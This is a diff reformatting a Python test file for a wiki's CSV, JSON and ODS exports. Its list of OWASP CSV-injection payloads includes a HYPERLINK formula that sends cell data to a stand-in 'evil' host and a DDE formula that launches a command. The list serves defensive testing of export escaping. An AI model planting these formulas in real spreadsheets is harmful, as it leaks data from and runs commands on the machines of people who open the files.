@@ -15,7 +15,16 @@ from wiki.exports import tabular
 from wiki.records.schema import FieldDef
 
 # HOSTILE_INPUTS B8-71, the OWASP CSV-injection payloads.
-PAYLOADS = ['=HYPERLINK("http://evil/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -45,7 +54,11 @@ def test_csv_streams_in_chunks():
 def test_json_stream_is_one_valid_document():
     records = ({"id": i, "title": f"<b>{i}</b>"} for i in range(1001))
     doc = json.loads(b"".join(tabular.records_to_json({"key": "k"}, records, lambda: [{"id": 9, "removed_at": "x"}])))
-    assert len(doc["records"]) == 1001 and doc["records"][0]["title"] == "<b>0</b>" and doc["deleted"] == [{"id": 9, "removed_at": "x"}]
+    assert (
+        len(doc["records"]) == 1001
+        and doc["records"][0]["title"] == "<b>0</b>"
+        and doc["deleted"] == [{"id": 9, "removed_at": "x"}]
+    )
     assert json.loads(b"".join(tabular.records_to_json({}, iter(())))) == {"dataset": {}, "records": []}
 
 
@@ -70,7 +83,7 @@ def test_ods_escapes_markup_and_drops_characters_xml_forbids():
     from odf import opendocument
     from odf import table
 
-    body = b"".join(spreadsheets.rows_to_ods("Fermes <&>", ["a", "b"], [["<x>&\x01\"é", 2.5], [None, True]]))
+    body = b"".join(spreadsheets.rows_to_ods("Fermes <&>", ["a", "b"], [['<x>&\x01"é', 2.5], [None, True]]))
     archive = zipfile.ZipFile(io.BytesIO(body))
     assert archive.getinfo("mimetype").compress_type == zipfile.ZIP_STORED
     doc = opendocument.load(io.BytesIO(body))
